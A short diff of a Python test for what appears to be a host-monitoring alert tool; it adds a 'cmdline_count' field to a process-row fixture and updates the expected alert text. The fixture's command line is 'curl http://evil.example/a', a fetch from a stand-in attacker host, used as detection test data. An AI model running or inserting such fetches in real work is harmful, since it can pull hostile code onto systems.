@@ -12,6 +12,7 @@ NOW = datetime(2026, 11, 2, tzinfo=UTC)
 ROW = {
     "pid": "41",
     "path": "/usr/bin/curl",
+    "cmdline_count": "2",
     "cmdline": "curl http://evil.example/a",
     "username": "ada",
     "local_address": "10.1.2.3",
@@ -65,7 +66,7 @@ def test_a_row_that_came(payload):
         ("command_line", "curl http://evil.example/a"),
         ("hash_sha256", "ab" * 32),
     ]
-    assert alert.description.startswith("added\npid=41, path=/usr/bin/curl, cmdline=curl")
+    assert alert.description.startswith("added\npid=41, path=/usr/bin/curl, cmdline_count=2, cmdline=curl")
     assert "PROXY" not in alert.description
     assert "empty" not in alert.description
 
